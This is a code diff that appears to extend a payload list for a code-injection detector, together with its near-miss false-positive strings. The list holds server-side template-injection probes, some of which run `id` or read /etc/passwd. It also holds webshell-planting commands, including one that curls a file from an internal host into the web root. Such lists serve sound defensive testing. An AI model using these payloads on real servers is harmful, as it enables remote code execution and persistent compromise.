@@ -184,7 +184,9 @@ CODE_PAYLOADS = {
                  "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
                  "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
                  "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>",
-                 "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}"],
+                 "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}",
+                 # the polyglot probe, EL's implicit objects, Thymeleaf / Razor's @{...}
+                 "${{<%[%'\"}}%\\.", "${sessionScope}", "#{facesContext.externalContext}", "@{7*7}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -205,6 +207,7 @@ CODE_NEAR_MISSES = [
     "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "f(x) 'a' (b)", "the new COM (port)",
     "see {1} (below)", "a <? b", "an IO popen call", "a process readme", "the subprocess module's call()",
     "java.lang is a package", "Class.forName(name) loads a class", "the Runtime class",
+    "[%s] %s", "50% off [%d%%]", "user@{example}.com", "{{ a }} {{ b }}",
     "os.mkdir('/tmp/x')", "mkdir(\"/tmp/x\", 0755)", "max(a, b)", "count(items)", "use `ls`; then",
 ]
 
